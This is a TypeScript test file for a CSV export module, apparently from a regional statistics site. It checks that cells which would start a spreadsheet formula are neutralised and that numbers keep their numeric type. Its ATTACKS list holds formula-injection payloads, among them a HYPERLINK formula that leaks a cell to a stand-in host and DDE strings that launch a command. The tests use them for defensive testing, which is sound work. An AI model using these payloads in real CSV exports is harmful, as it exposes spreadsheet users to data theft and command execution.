/**
 * The one CSV writer: text a spreadsheet would run as a formula is neutralised with a leading
 * `'`, wherever it sits (a cell, a header, the comparison download); real numbers stay numbers;
 * non-finite numbers are empty cells, as JSON writes them null.
 */
import { readdirSync, readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { compareRegions, type MetricValue, type RegionFacts } from '../../src/domain/compare.ts';
import { FORMULA_START, toCsv } from '../../src/lib/csv.ts';
import { comparisonCsv } from '../../src/lib/open-data.ts';

/** Cells as a spreadsheet import sees them (no type guessing), header row included. */
const cells = (csv: string): string[][] => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ',', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

const ATTACKS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  // Papaparse's own `escapeFormulae: true` misses this one: its `.*$` stops at the line break.
  '=HYPERLINK("https://evil.example")\nbaris kedua',
];

describe('toCsv', () => {
  it.each(ATTACKS)('neutralises a text cell starting a formula: %j', (attack) => {
    const [header, row] = cells(toCsv([{ teks: attack }]));
    expect(header).toEqual(['teks']);
    expect(row).toEqual([`'${attack}`]);
  });

  it('neutralises a formula in a column name too', () => {
    const [header] = cells(toCsv([{ '=1+1 nilai': 5 }]));
    expect(header).toEqual(["'=1+1 nilai"]);
  });

  it('keeps real numbers, negative ones included, as numbers and leaves harmless text alone', () => {
    const csv = toCsv([{ selisih: -167000, rasio: -0.5, nol: 0, teks: 'Kabupaten Katingan', tengah: 'a=b', ya: true }]);
    expect(csv).toContain('\r\n-167000,-0.5,0,Kabupaten Katingan,a=b,true\r\n');
    // The same text as a string is neutralised: only a value typed as a number is a number.
    expect(cells(toCsv([{ teks: '-167000' }]))[1]).toEqual(["'-167000"]);
  });

  it('writes non-finite numbers empty, as JSON writes them null, so both files agree', () => {
    const rows = [{ a: -Infinity, b: Infinity, c: Number.NaN, d: 1e308 }];
    expect(JSON.parse(JSON.stringify(rows))).toEqual([{ a: null, b: null, c: null, d: 1e308 }]);
    expect(cells(toCsv(rows))[1]).toEqual(['', '', '', '1e+308']);
  });

  it('leaves no cell of any row starting a formula unless it is a number value', () => {
    const rows = ATTACKS.map((teks, n) => ({ n: -n, teks, kosong: undefined }));
    const values = cells(toCsv(rows)).flat();
    expect(values.filter((v) => FORMULA_START.test(v))).toEqual(['-1', '-2', '-3', '-4', '-5', '-6']);
  });
});

describe('the comparison download', () => {
  const fig = (value: number, source: string): MetricValue => ({ value, years: [2024], source });
  const region = (slug: string, name: string, metrics: RegionFacts['metrics']): RegionFacts => ({ slug, name, metrics });

  it('goes through the same writer: a hostile source or region name is neutralised, figures stay numbers', () => {
    const a = region('a', '=cmd|x', { penduduk: fig(100, '=HYPERLINK("https://evil.example")') });
    const b = region('b', 'Kabupaten B', { penduduk: fig(300, '@SUM(1)') });
    const [header, ...rows] = cells(comparisonCsv(a, b, compareRegions(a, b)));
    expect(header).toContain("'=cmd|x nilai");
    const penduduk = rows.find((r) => r.includes('Jumlah penduduk'))!;
    expect(penduduk).toContain(`'=HYPERLINK("https://evil.example")`);
    expect(penduduk).toContain("'@SUM(1)");
    expect(penduduk).toContain('-200'); // a − b, a real number
    for (const value of [header!, ...rows].flat()) {
      if (FORMULA_START.test(value)) expect(value, value).toMatch(/^-\d+(\.\d+)?$/);
    }
  });
});

describe('one writer', () => {
  it('no module but src/lib/csv.ts writes CSV with papaparse', () => {
    const src = new URL('../../src/', import.meta.url);
    const writers = (readdirSync(src, { recursive: true }) as string[])
      .filter((f) => /\.(ts|astro|mjs|js)$/.test(f))
      .filter((f) => /\bunparse\b|from ['"]papaparse['"]/.test(readFileSync(new URL(f, src), 'utf8')));
    expect(writers).toEqual(['lib/csv.ts']);
  });
});
